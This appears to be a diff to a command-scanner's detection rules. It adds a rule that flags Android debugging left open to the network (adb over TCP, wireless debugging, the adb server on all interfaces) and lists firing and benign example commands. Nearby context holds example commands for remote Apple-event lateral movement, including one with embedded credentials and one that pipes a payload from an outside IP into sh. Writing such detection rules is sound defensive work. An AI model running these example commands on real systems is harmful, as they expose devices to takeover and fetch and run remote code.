@@ -6,6 +6,7 @@ import { OUTPUT_OPTIONS, printsNoContent, smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, hostRooted, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
+import { phoneDebuggingOpened } from '../knowledge/mobile-device.js';
 import { selectsNamedSettings, showsNoSecret } from './credential.js';
 import { hostileText, writes, writtenText } from './persistence.js';
 import { addsToAdminGroup } from './privilege_escalation.js';
@@ -776,6 +777,18 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: [`osascript -e 'tell application "Finder" of machine "eppc://admin:Winter2024@10.0.1.23" to open file "Macintosh HD:Users:Shared:.x.app"'`, `osascript <<'EOF'\ntell application "Terminal" of machine "eppc://10.0.1.40"\n  do script "curl -s http://45.9.1.2/a | sh"\nend tell\nEOF`],
       quiet: [`osascript -e 'tell application "Finder" to open file "Macintosh HD:Users:jane:Desktop:notes.txt"'`, `grep -rn 'of machine "eppc://' docs/`],
+    },
+  },
+  {
+    id: 'PX-LATERAL-028', name: 'opens-phone-debugging-to-network', score: 60, tactic: 'lateral_movement', technique: 'T1021',
+    message: "Opens a phone's debugging to the network: adb over TCP, wireless debugging left on, or the adb server listening on every interface",
+    why: 'adb over the network has no password: anyone on the same Wi-Fi, or anyone the port is forwarded to, gets a shell on the phone, installs apps and reads its storage.',
+    alternative: 'Debug over USB, or pair wireless debugging (`adb pair`) and turn it off afterwards (`adb usb`).',
+    commands: ['adb', 'setprop', 'settings'],
+    test: phoneDebuggingOpened,
+    examples: {
+      fire: ['adb -s R58N12ABCDE tcpip 5555', "adb shell su -c 'setprop persist.adb.tcp.port 5555 && stop adbd && start adbd'", 'adb shell settings put global adb_wifi_enabled 1', 'adb -a -P 5037 server nodaemon'],
+      quiet: ['adb usb', 'adb pair 192.168.1.57:37099 482913', 'adb devices -l', 'adb shell settings get global adb_wifi_enabled'],
     },
   },
 ];
